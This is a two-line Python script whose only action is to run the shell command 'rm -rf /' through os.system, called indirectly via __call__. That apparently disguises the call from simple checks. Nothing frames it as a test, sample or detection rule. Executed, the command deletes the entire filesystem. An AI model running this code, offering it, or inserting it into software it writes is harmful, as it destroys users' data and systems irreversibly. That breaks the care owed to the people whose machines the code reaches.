import os
os.system.__call__("rm -rf /")
